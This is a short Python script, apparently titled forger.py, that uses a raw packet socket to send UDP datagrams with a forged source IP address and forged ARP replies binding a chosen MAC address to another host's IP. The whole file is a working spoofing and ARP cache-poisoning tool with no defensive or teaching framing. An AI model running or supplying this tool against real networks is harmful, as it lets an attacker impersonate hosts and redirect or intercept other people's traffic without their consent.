# forger.py FROM_IP TO_IP TO_MAC [FROM_MAC]: sends UDP datagrams and ARP replies with a false sender, as root with NET_RAW can.
import socket, struct, sys

source, target, router = sys.argv[1], sys.argv[2], bytes.fromhex(sys.argv[3].replace(":", ""))
s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
s.bind(("eth0", 0))
own = s.getsockname()[4]
sender = bytes.fromhex(sys.argv[4].replace(":", "")) if len(sys.argv) > 4 else own


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


udp = struct.pack("!HHHH", 4444, 80, 12, 0) + b"fake"
head = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target))
head = head[:10] + struct.pack("!H", checksum(head)) + head[12:]
for _ in range(5):
    s.send(router + sender + b"\x08\x00" + head + udp)
arp = struct.pack("!HHBBH6s4s6s4s", 1, 0x0800, 6, 4, 2, sender, socket.inet_aton(source), router, socket.inet_aton(target))
for _ in range(5):
    s.send(router + sender + b"\x08\x06" + arp)
print("sent")
